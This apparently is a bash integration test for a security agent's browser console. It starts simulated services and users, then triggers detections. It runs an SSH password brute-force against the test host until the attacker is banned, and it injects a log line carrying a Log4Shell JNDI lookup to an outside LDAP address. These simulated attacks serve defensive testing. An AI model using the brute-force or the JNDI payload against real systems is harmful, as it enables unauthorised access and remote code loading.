#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# The console in a browser, with a real guard under a real attack (tests/console/walk.mjs). Its screenshots stay in
# build/results/console. It needs node, npm and a Chromium of the system; what it takes from npm is locked.

. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/browser.sh"
export RULES=yes
[ "${WORLD_INSIDE-}" ] || browser_fetch console
world_enter "$@"
cast; syslog_start; sshd_start
guard_conf <<-EOF
	[auth]
	pam_unix_alone = yes
	[response]
	trust_logs = yes
	[process]
	enabled = yes
	poll_interval = 1s
	[network]
	enabled = yes
	poll_interval = 1s
	[exposure]
	enabled = yes
	interval = 1m
EOF
service_start; desk_login; guard_start; guard_join
wait_for 10 "the device is connected" linked
desk user add ada --role admin >/tmp/ada 2>/tmp/said || fail "no ada"
desk user add vera --role viewer >/tmp/vera 2>/tmp/said || fail "no vera"
desk key create /root/bob.pem >/tmp/said 2>&1
desk key trust /root/bob.pem.pub --name bob --root-key $ROOT_KEY >/tmp/said 2>&1 || fail "nobody trusts bob"
desk object offer "$BUILD/caltrop-rules.pack" --kind rules --name pack --all >/tmp/said 2>&1 || fail "no pack"
printf 'outbound: drop\nallow:\n  - out: tcp/443\n' >/tmp/policy.yml
desk policy build /tmp/policy.yml -o /tmp/policy.bin >/tmp/said 2>&1 || fail "no policy: $(cat /tmp/said)"
desk object offer /tmp/policy.bin --kind policy --name filter --all >/tmp/said 2>&1 || fail "no policy: $(cat /tmp/said)"
desk playbook push "$TOP/ports/linux/playbooks/port_scanner.yml" --all >/tmp/said 2>&1 || fail "no playbook: $(cat /tmp/said)"

browser_home
walk() { on fleet env HOME=/tmp/home FIRST_PASSWORD="$(cat /tmp/ada)" VIEWER_PASSWORD="$(cat /tmp/vera)" \
	OWN_PASSWORD=the-own-password-of-ada ATTACKER=$ATTACKER1 \
	node "$TOP/tests/console/walk.mjs" https://localhost:8444 /tmp/shots "$MODULES"; }
walk >/tmp/walk 2>&1 & walk=$!
asked() { has_line /tmp/walk "^want $1" || ! kill -0 $walk 2>/dev/null; }
wait_for 60 "the browser asks for an attack" asked attack
if kill -0 $walk 2>/dev/null; then
	words 21 | grep -v $BACKUP_PASSWORD >/tmp/words
	crack attacker1 root /tmp/words -t 8 >/tmp/hydra 2>&1 & hydra=$!
	wait_for 10 "the ban" banned $ATTACKER1
	kill $hydra; wait $hydra 2>/dev/null
fi
wait_for 60 "it asks for what a rule of the pack finds" asked code
echo "$(date +%FT%T.%6N%:z) device sshd[4711]: Failed password for invalid user \${jndi:ldap://198.51.100.7/a} from $ATTACKER2 port 4711 ssh2" >>$LOG
wait_for 60 "it asks for its key to be trusted" asked trust
desk trust require logout 2 --root-key $ROOT_KEY >/tmp/said 2>&1
desk key trust /tmp/browser.pem.pub --name ada-browser --root-key $ROOT_KEY >/tmp/said 2>&1
wait_for 60 "it asks for another operator's signature" asked cosign
desk order sign "$(cat /tmp/held)" --order-key /root/bob.pem >/tmp/said 2>&1
wait $walk; rc=$?
cat /tmp/walk
browser_shots
[ $rc = 0 ] || fail "the browser's walk ended with $rc"
seen=$(sed -n 's/^seen //p' /tmp/walk)
received=$(date -d "$(desk event list --kind finding --json | jq -r '.items[-1].received')" +%s%3N)
echo "the incident was on the screen $((seen - received)) ms after the service had received it"
